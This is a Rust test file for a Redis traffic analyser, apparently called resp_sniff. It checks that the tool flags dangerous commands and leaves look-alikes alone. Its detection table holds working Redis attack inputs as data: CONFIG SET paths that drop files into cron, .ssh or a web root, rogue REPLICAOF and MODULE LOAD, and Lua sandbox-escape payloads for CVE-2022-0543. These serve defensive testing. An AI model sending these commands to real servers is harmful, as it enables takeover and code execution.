//! Dangerous and telling commands: each that the documentation promises is found, by the program as a
//! user runs it, and what looks like one and is not is left alone.
#![allow(
    clippy::indexing_slicing,
    reason = "a test that indexes wrongly fails, as it should"
)]

mod common;

use common::{Capture, finish, program};
use resp_sniff::event::{Event, FindingEvent, Severity};
use tempfile::TempDir;

use Severity::{Critical, High, Low, Medium};

/// What a client sends, and the rule that it breaks.
const TELLING: &[(&[&str], &str, Severity)] = &[
    (&["KEYS", "*"], "hygiene.keys", Low),
    (&["keys", "user:*"], "hygiene.keys", Low),
    (&["FLUSHALL"], "hygiene.flush", Medium),
    (&["FLUSHALL", "ASYNC"], "hygiene.flush", Medium),
    (&["FLUSHDB"], "hygiene.flush", Medium),
    (&["DEBUG", "SLEEP", "0"], "hygiene.debug", Medium),
    (&["DEBUG", "SEGFAULT"], "hygiene.debug", Medium),
    (&["SHUTDOWN"], "hygiene.shutdown", Medium),
    (&["SHUTDOWN", "NOSAVE"], "hygiene.shutdown", Medium),
    (
        &["MODULE", "LOAD", "/tmp/exp.so"],
        "hygiene.module-load",
        High,
    ),
    (
        &["module", "loadex", "/tmp/exp.so"],
        "hygiene.module-load",
        High,
    ),
    (
        &["SLAVEOF", "203.0.113.7", "6379"],
        "hygiene.replicaof",
        High,
    ),
    (
        &["REPLICAOF", "203.0.113.7", "6379"],
        "hygiene.replicaof",
        High,
    ),
    (&["SCRIPT", "FLUSH"], "hygiene.administration", Low),
    (&["SCRIPT", "KILL"], "hygiene.administration", Low),
    (&["SCRIPT", "DEBUG", "YES"], "hygiene.administration", Low),
    (&["FUNCTION", "FLUSH"], "hygiene.administration", Low),
    (
        &["CONFIG", "SET", "dir", "/data"],
        "hygiene.config-set-path",
        High,
    ),
    (
        &["CONFIG", "SET", "DbFileName", "x.rdb"],
        "hygiene.config-set-path",
        High,
    ),
    (
        &["CONFIG", "SET", "maxmemory", "1gb", "dbfilename", "x.rdb"],
        "hygiene.config-set-path",
        High,
    ),
    (
        &[
            "CONFIG", "SET", "save", "", "hz", "10", "dir", "/data", "port", "1",
        ],
        "hygiene.config-set-path",
        High,
    ),
    (
        &["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"],
        "hygiene.config-set-attack-path",
        Critical,
    ),
    (
        &[
            "config",
            "set",
            "maxmemory",
            "1gb",
            "dir",
            "/home/redis/.ssh",
        ],
        "hygiene.config-set-attack-path",
        Critical,
    ),
    (
        &[
            "CONFIG",
            "SET",
            "hz",
            "10",
            "save",
            "",
            "dbfilename",
            "authorized_keys",
        ],
        "hygiene.config-set-attack-path",
        Critical,
    ),
    (
        &[
            "CONFIG",
            "SET",
            "dir",
            "/var/www/html",
            "dbfilename",
            "shell.php",
        ],
        "hygiene.config-set-attack-path",
        Critical,
    ),
    (
        &["CONFIG", "SET", "protected-mode", "no"],
        "exposure.protected-mode-off",
        High,
    ),
    (
        &["CONFIG", "SET", "hz", "10", "Protected-Mode", "NO"],
        "exposure.protected-mode-off",
        High,
    ),
    (
        &["CONFIG", "SET", "bind", "0.0.0.0"],
        "hygiene.config-set-exposure",
        Medium,
    ),
    (
        &["ACL", "SETUSER", "app", "on", "nopass"],
        "cmd.acl-nopass",
        High,
    ),
    (
        &["acl", "setuser", "app", "~*", "+@all", "NOPASS", "on"],
        "cmd.acl-nopass",
        High,
    ),
    (&["MONITOR"], "exposure.monitor", High),
    // CVE-2022-0543: Debian's Lua had `package`.
    (
        &[
            "EVAL",
            "local f = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io')",
            "0",
        ],
        "hygiene.script-escape",
        High,
    ),
    (
        &[
            "EVAL",
            "local io = f(); return io.popen('id', 'r'):read('*a')",
            "0",
        ],
        "hygiene.script-escape",
        High,
    ),
    (
        &["SCRIPT", "LOAD", "os.execute('id')"],
        "hygiene.script-escape",
        High,
    ),
    // CVE-2015-4335: bytecode.
    (
        &["EVAL", "return loadstring(string.dump(f))", "0"],
        "hygiene.script-escape",
        High,
    ),
];

/// What a client sends, and the rule that it does not break.
const HARMLESS: &[(&[&str], &str)] = &[
    (&["GET", "KEYS"], "hygiene.keys"),
    (&["SET", "FLUSHALL", "DEBUG"], "hygiene.flush"),
    (&["SET", "FLUSHALL", "DEBUG"], "hygiene.debug"),
    (&["REPLICAOF", "NO", "ONE"], "hygiene.replicaof"),
    (&["MODULE", "LIST"], "hygiene.module-load"),
    (&["CONFIG", "GET", "dir"], "hygiene.config-set-path"),
    // The name of a parameter in the place of a value.
    (
        &["CONFIG", "SET", "maxmemory-policy", "dir"],
        "hygiene.config-set-path",
    ),
    (
        &["CONFIG", "SET", "dir", "/data"],
        "hygiene.config-set-attack-path",
    ),
    (
        &["CONFIG", "SET", "protected-mode", "yes"],
        "exposure.protected-mode-off",
    ),
    (
        &["ACL", "SETUSER", "app", "on", "resetpass"],
        "cmd.acl-nopass",
    ),
    (
        &["EVAL", "return redis.call('GET', KEYS[1])", "1", "a"],
        "hygiene.script-escape",
    ),
    (&["GET", "POST"], "hygiene.http"),
];

#[test]
fn every_telling_command_is_found_and_what_looks_like_one_is_not() {
    let mut capture = Capture::new();
    let port = |at: usize| 7000 + u16::try_from(at).expect("a short table");
    let all = TELLING.iter().map(|(words, ..)| *words);
    for (at, words) in all
        .chain(HARMLESS.iter().map(|(words, _)| *words))
        .enumerate()
    {
        let mut connection = capture.connect(port(at));
        connection.command(&["PING"], "+PONG\r\n");
        connection.command(words, "+OK\r\n").close();
    }
    let findings = findings(&capture);
    for (at, (words, rule, severity)) in TELLING.iter().enumerate() {
        let found = of(&findings, port(at), rule);
        assert!(
            !found.is_empty(),
            "{words:?}: {rule}, not {:?}",
            at_port(&findings, port(at))
        );
        assert_eq!(found[0].severity, *severity, "{words:?}");
    }
    for (at, (words, rule)) in HARMLESS.iter().enumerate() {
        let found = of(&findings, port(TELLING.len() + at), rule);
        assert!(found.is_empty(), "{words:?}: {rule}");
    }
}

#[test]
fn passwords_that_are_tried_are_counted() {
    let mut capture = Capture::new();
    for at in 0..9 {
        let mut connection = capture.connect(6379);
        let wrong = "-WRONGPASS invalid username-password pair or user is disabled.\r\n";
        connection
            .command(&["AUTH", &format!("guess-{at}")], wrong)
            .close();
    }
    // Whoever mistypes twice tries nothing.
    let mut connection = capture.connect(6380);
    for word in ["mistyped-1", "mistyped-2"] {
        connection.command(&["AUTH", word], "-WRONGPASS no\r\n");
    }
    connection
        .command(&["AUTH", "right-at-last"], "+OK\r\n")
        .close();
    let findings = findings(&capture);
    let found = of(&findings, 6379, "hygiene.brute-force");
    assert_eq!(found.len(), 1);
    let why = &found[0].why;
    assert!(why.contains("9 times within"), "{why}");
    assert!(of(&findings, 6380, "hygiene.brute-force").is_empty());
}

#[test]
fn who_comes_without_a_login_where_others_log_in_is_told() {
    let mut capture = Capture::new();
    for (port, logs_in) in [(6379, true), (6379, false), (6380, false), (6381, true)] {
        let mut connection = capture.connect(port);
        if logs_in {
            connection.command(&["AUTH", "app", "s3cr3t-s3cr3t"], "+OK\r\n");
        }
        connection.command(&["GET", "a"], "$1\r\nb\r\n").close();
    }
    let findings = findings(&capture);
    let rule = "exposure.no-auth-among-others";
    assert_eq!(of(&findings, 6379, rule).len(), 1);
    assert!(of(&findings, 6380, rule).is_empty(), "nobody logs in there");
    assert!(
        of(&findings, 6381, rule).is_empty(),
        "everybody logs in there"
    );
    assert_eq!(of(&findings, 6380, "exposure.no-auth").len(), 1);
}

#[test]
fn http_sent_to_a_redis_is_told() {
    let mut capture = Capture::new();
    // What a Redis answers to each line, until it closes.
    let mut connection = capture.connect(6379);
    connection.request(b"GET / HTTP/1.1\r\nHost: 10.1.0.2:6379\r\nAccept: */*\r\n\r\n");
    connection
        .reply(b"-ERR wrong number of arguments for 'get' command\r\n")
        .close();
    // Redis 3.2 and newer close without a word: told where other connections show that it is one.
    for port in [6379, 6381] {
        let mut connection = capture.connect(port);
        connection
            .request(b"POST / HTTP/1.1\r\nHost: 10.1.0.2:6379\r\n\r\n")
            .close();
    }
    capture
        .connect(6382)
        .command(&["PING"], "+PONG\r\n")
        .close();
    let mut connection = capture.connect(6382);
    connection
        .request(b"POST / HTTP/1.1\r\nHost: 10.1.0.2:6379\r\n\r\n")
        .close();
    // A page's form: commands follow in its body.
    let mut connection = capture.connect(6380);
    connection.request(b"POST / HTTP/1.1\r\nContent-Length: 12\r\n\r\nFLUSHALL\r\n");
    connection.reply(b"-ERR wrong number of arguments for 'post' command\r\n");
    connection
        .reply(b"-ERR unknown command `Content-Length:`\r\n+OK\r\n")
        .close();
    let findings = findings(&capture);
    assert!(!of(&findings, 6379, "hygiene.http").is_empty());
    assert!(!of(&findings, 6380, "hygiene.http").is_empty());
    assert!(
        of(&findings, 6381, "hygiene.http").is_empty(),
        "any web server"
    );
    assert_eq!(of(&findings, 6382, "hygiene.http").len(), 1);
}

fn findings(capture: &Capture) -> Vec<FindingEvent> {
    let folder = TempDir::new().expect("a folder");
    let path = folder.path().join("telling.pcap");
    capture.write_to(&path);
    let words = ["analyze", "--format", "ndjson", "--events", "finding"];
    let run = finish(program().args(words).arg(&path));
    let findings = run.events().into_iter().filter_map(|event| match event {
        Event::Finding(finding) => Some(*finding),
        _ => None,
    });
    findings.collect()
}

fn of<'a>(findings: &'a [FindingEvent], port: u16, rule: &str) -> Vec<&'a FindingEvent> {
    let at_port = findings
        .iter()
        .filter(|finding| finding.server.port == port);
    at_port.filter(|finding| finding.rule == rule).collect()
}

fn at_port(findings: &[FindingEvent], port: u16) -> Vec<&str> {
    let at_port = findings
        .iter()
        .filter(|finding| finding.server.port == port);
    at_port.map(|finding| finding.rule.as_str()).collect()
}
